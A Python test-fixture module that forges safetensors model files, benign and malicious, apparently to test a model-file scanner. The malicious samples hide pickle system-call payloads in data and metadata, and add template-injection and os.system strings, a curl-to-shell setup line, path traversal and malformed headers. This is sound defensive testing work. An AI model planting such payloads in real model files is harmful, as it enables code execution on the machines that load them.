"""safetensors: honest ones, structural lies, and content hidden where no tensor is."""

from __future__ import annotations

import base64
import json

from stannary.testing.forges import forge

_PICKLE = b"cposix\nsystem\n(S'echo stannary'\ntR."
_F = "safetensors"


def build(header: str | dict[str, object], data: bytes = b"", *, length: int | None = None) -> bytes:
    """Return a file from header text or a dict and its data."""
    raw = (header if isinstance(header, str) else json.dumps(header, separators=(",", ":"))).encode()
    return (len(raw) if length is None else length).to_bytes(8, "little") + raw + data


def _tensor(begin: int, end: int, *, dtype: str = "U8", shape: list[int] | None = None) -> dict[str, object]:
    return {"dtype": dtype, "shape": [end - begin] if shape is None else shape, "data_offsets": [begin, end]}


def _entry(name: str, begin: int, end: int) -> str:
    return f'"{name}":{json.dumps(_tensor(begin, end), separators=(",", ":"))}'


@forge("safetensors.plain", filename="model.safetensors", family=_F, malicious=False)
def _plain() -> bytes:
    tensors = {
        "w": _tensor(0, 16, dtype="F32", shape=[2, 2]),
        "b": _tensor(16, 20, dtype="BF16", shape=[2]),
        "empty": _tensor(20, 20),
    }
    return build({"__metadata__": {"format": "pt"}, **tensors}, bytes(20))


@forge("safetensors.escaped_names", filename="model.safetensors", family=_F, malicious=False)
def _escaped() -> bytes:
    return build(
        '{"gew\\u00ecchte/\\u0061":{"shape":[2],"dtype":"U8","data_offsets":[0,2]} , "b":{"dtype":"U8","shape":[2],"data_offsets":[2,4]}}  ',
        bytes(4),
    )


@forge("safetensors.trailing_pickle", filename="model.safetensors", family=_F, malicious=True)
def _trailing() -> bytes:
    return build({"w": _tensor(0, 4)}, bytes(4) + b"\x80\x02" + _PICKLE)


@forge("safetensors.gap_pickle", filename="model.safetensors", family=_F, malicious=True)
def _gap() -> bytes:
    size = len(_PICKLE)
    return build({"w": _tensor(0, 4), "v": _tensor(4 + size, 8 + size)}, bytes(4) + _PICKLE + bytes(4))


@forge("safetensors.tensor_pickle", filename="model.safetensors", family=_F, malicious=True)
def _tensor_pickle() -> bytes:
    return build({"w": _tensor(0, len(_PICKLE))}, _PICKLE)


@forge("safetensors.metadata_twice", filename="model.safetensors", family=_F, malicious=True)
def _metadata_twice() -> bytes:
    twice = base64.b64encode(base64.b64encode(_PICKLE)).decode()
    return build({"__metadata__": {"state": twice}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.metadata_text_pickle", filename="model.safetensors", family=_F, malicious=True)
def _metadata_text() -> bytes:
    return build({"__metadata__": {"state": _PICKLE.decode()}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.metadata_key", filename="model.safetensors", family=_F, malicious=True)
def _metadata_key() -> bytes:
    return build({"__metadata__": {"{{ ''.__class__ }}": "x"}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.overlap", filename="model.safetensors", family=_F, malicious=True)
def _overlap() -> bytes:
    return build({"w": _tensor(0, 8), "v": _tensor(4, 12)}, bytes(12))


@forge("safetensors.duplicate_key", filename="model.safetensors", family=_F, malicious=True)
def _duplicate() -> bytes:
    return build("{" + ",".join((_entry("w", 0, 4), _entry("w", 4, 8))) + "}", bytes(8))


@forge("safetensors.duplicate_escaped", filename="model.safetensors", family=_F, malicious=True)
def _duplicate_escaped() -> bytes:
    return build("{" + ",".join((_entry("w", 0, 4), _entry("\\u0077", 4, 8))) + "}", bytes(8))


@forge("safetensors.outside", filename="model.safetensors", family=_F, malicious=True)
def _outside() -> bytes:
    return build({"w": _tensor(0, 1 << 20)}, bytes(16))


@forge("safetensors.size_mismatch", filename="model.safetensors", family=_F, malicious=True)
def _mismatch() -> bytes:
    return build({"w": _tensor(0, 16, dtype="F32", shape=[1 << 20])}, bytes(16))


@forge("safetensors.dims_overflow", filename="model.safetensors", family=_F, malicious=True)
def _dims() -> bytes:
    return build({"w": _tensor(0, 16, dtype="F32", shape=[1 << 62, 1 << 62])}, bytes(16))


@forge("safetensors.header_huge", filename="model.safetensors", family=_F, malicious=True)
def _huge() -> bytes:
    return build({"w": _tensor(0, 4)}, bytes(4), length=1 << 40)


@forge("safetensors.metadata_template", filename="model.safetensors", family=_F, malicious=True)
def _template() -> bytes:
    text = "{{ cycler.__init__.__globals__.os.popen('echo stannary').read() }}"
    return build({"__metadata__": {"chat_template": text}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.metadata_pickle", filename="model.safetensors", family=_F, malicious=True)
def _metadata_pickle() -> bytes:
    return build({"__metadata__": {"state": base64.b64encode(_PICKLE).decode()}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.metadata_code", filename="model.safetensors", family=_F, malicious=True)
def _metadata_code() -> bytes:
    return build({"__metadata__": {"post_load": "__import__('os').system('echo stannary')"}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.metadata_shell", filename="model.safetensors", family=_F, malicious=True)
def _metadata_shell() -> bytes:
    return build({"__metadata__": {"setup": "curl https://example.invalid/x | sh"}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.name_climbs", filename="model.safetensors", family=_F, malicious=True)
def _climbs() -> bytes:
    return build({"../../.bashrc": _tensor(0, 4)}, bytes(4))


@forge("safetensors.unknown_dtype", filename="model.safetensors", family=_F, malicious=None)
def _dtype() -> bytes:
    return build({"w": _tensor(0, 4, dtype="Q4_7")}, bytes(4))


@forge("safetensors.metadata_number", filename="model.safetensors", family=_F, malicious=None)
def _metadata_number() -> bytes:
    return build({"__metadata__": {"steps": 3}, "w": _tensor(0, 4)}, bytes(4))


@forge("safetensors.extra_field", filename="model.safetensors", family=_F, malicious=True)
def _extra() -> bytes:
    return build({"w": {**_tensor(0, 4), "loader": "os.system"}}, bytes(4))


@forge("safetensors.header_tail", filename="model.safetensors", family=_F, malicious=True)
def _header_tail() -> bytes:
    return build("{" + _entry("w", 0, 4) + "}" + _PICKLE.decode(), bytes(4))


@forge("safetensors.truncated", filename="model.safetensors", family=_F, malicious=None)
def _truncated() -> bytes:
    return build({"w": _tensor(0, 4)}, bytes(4))[:30]


@forge("safetensors.not_json", filename="model.safetensors", family=_F, malicious=None)
def _not_json() -> bytes:
    return build('{"w":{"dtype":"U8","shape":[4],', bytes(4))


@forge("safetensors.name_of_no_text", filename="model.safetensors", family=_F, malicious=True)
def _no_text() -> bytes:
    return build({"w\x01\x01": _tensor(0, 4)}, bytes(4)).replace(b"w\\u0001\\u0001", b"w\xff\xfe" + b"0123456789")


@forge("safetensors.name_in_utf8", filename="model.safetensors", family=_F, malicious=False)
def _in_utf8() -> bytes:
    return build("{" + _entry("gew\u00ecchte", 0, 4) + "}", bytes(4))
